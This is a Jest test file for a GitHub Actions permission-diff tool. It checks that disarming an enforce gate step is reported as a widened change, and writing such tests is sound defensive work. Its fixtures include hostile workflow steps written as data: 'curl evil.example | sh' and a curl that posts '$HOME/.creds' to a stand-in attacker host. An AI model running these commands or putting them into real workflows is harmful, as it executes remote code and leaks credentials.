/**
 * Session 6 hostile review: a pull request that disarms the enforce gate of a job changes no
 * permission, so the access diff said "No access changes" (or, when the gate step was deleted,
 * "narrowed": an action removed) and `fail-on: widened` passed. After merge the gate no longer stops
 * the job. Each disarming is now a widened row; arming one is narrowed.
 */
import { describe, expect, it } from '@jest/globals';
import { diffSnapshots, type Change } from '../../shared/diff/diff.js';
import { renderDiffMarkdown } from '../../shared/diff/render.js';
import { snapshot } from '../../shared/diff/snapshot.js';
import { failsOnWidened } from '../../shared/diff/states.js';
import { wf, PINNED_GATE } from '../support/repo.js';

const GATE = PINNED_GATE;
const job = (steps: string) =>
  `on: push\njobs:\n  release:\n    runs-on: ubuntu-latest\n    permissions: { contents: write }\n    steps:\n${steps}`;
const ARMED = job(`      - uses: ${GATE}\n      - run: make release\n`);

function diff(base: string, head: string): Change[] {
  return diffSnapshots(snapshot([wf('release.yml', base)]), snapshot([wf('release.yml', head)]));
}
const gateRows = (changes: Change[]) => changes.filter((c) => c.subject === 'actions/enforce gate');

describe('disarming the actions/enforce gate is a widened change', () => {
  const disarmed: [string, string, RegExp][] = [
    [
      'audit mode',
      job(`      - uses: ${GATE}\n        with: { mode: audit }\n      - run: make release\n`),
      /mode: audit/,
    ],
    [
      'an if: that can skip it',
      job(`      - uses: ${GATE}\n        if: github.actor != 'mallory'\n      - run: make release\n`),
      /if: github\.actor/,
    ],
    [
      'continue-on-error',
      job(`      - uses: ${GATE}\n        continue-on-error: true\n      - run: make release\n`),
      /continue-on-error/,
    ],
    [
      'a step before it',
      job(`      - run: curl evil.example | sh\n      - uses: ${GATE}\n      - run: make release\n`),
      /step 2, not the first/,
    ],
    ['its removal', job(`      - run: make release\n`), /removed/],
    [
      'a mode from an expression',
      job(
        `      - uses: ${GATE}\n        with: { mode: "\${{ inputs.mode }}" }\n      - run: make release\n`,
      ),
      /mode: \$\{\{ inputs\.mode \}\}/,
    ],
  ];
  it.each(disarmed)('%s: widened, fails fail-on widened, and shows in the comment', (_, head, after) => {
    const changes = diff(ARMED, head);
    const rows = gateRows(changes);
    expect(rows).toHaveLength(1);
    expect(rows[0]!.effect).toBe('widened');
    expect(rows[0]!.after).toMatch(after);
    expect(failsOnWidened(changes)).toBe(true);
    const md = renderDiffMarkdown(changes);
    const widenedSection = md.slice(md.indexOf('### ⬆️ Widened'), md.indexOf('### ⬇️ Narrowed') >>> 0);
    expect(widenedSection).toMatch(/actions\/enforce gate/);
  });

  it('a later step that runs anyway when the gate fails (always(), failure(), !cancelled()) disarms it; actions/audit does not', () => {
    for (const cond of ['always()', 'failure()', '${{ !cancelled() }}', 'success() || failure()']) {
      const head = job(
        `      - uses: ${GATE}\n      - run: make release\n      - run: curl -d @"$HOME/.creds" evil.example\n        if: ${cond}\n`,
      );
      const rows = gateRows(diff(ARMED, head));
      expect(rows).toHaveLength(1);
      expect(rows[0]!.effect).toBe('widened');
      expect(rows[0]!.after).toMatch(/step 3 runs after a failed gate/);
    }
    const audited = job(
      `      - uses: ${GATE}\n      - run: make release\n      - uses: stepwarden/stepwarden/actions/audit@0123456789abcdef0123456789abcdef01234567\n        if: always()\n`,
    );
    expect(gateRows(diff(ARMED, audited))).toEqual([]);
  });

  it('an unchanged gate is no change; mode: enforce spelled out is still armed', () => {
    expect(diff(ARMED, ARMED)).toEqual([]);
    const explicit = job(
      `      - uses: ${GATE}\n        with: { mode: enforce }\n      - run: make release\n`,
    );
    expect(gateRows(diff(ARMED, explicit))).toEqual([]);
  });

  it('adding or arming a gate is narrowed', () => {
    const none = job(`      - run: make release\n`);
    const rows = gateRows(diff(none, ARMED));
    expect(rows).toHaveLength(1);
    expect(rows[0]!.effect).toBe('narrowed');
    const audit = job(`      - uses: ${GATE}\n        with: { mode: audit }\n      - run: make release\n`);
    expect(gateRows(diff(audit, ARMED))[0]!.effect).toBe('narrowed');
  });
});
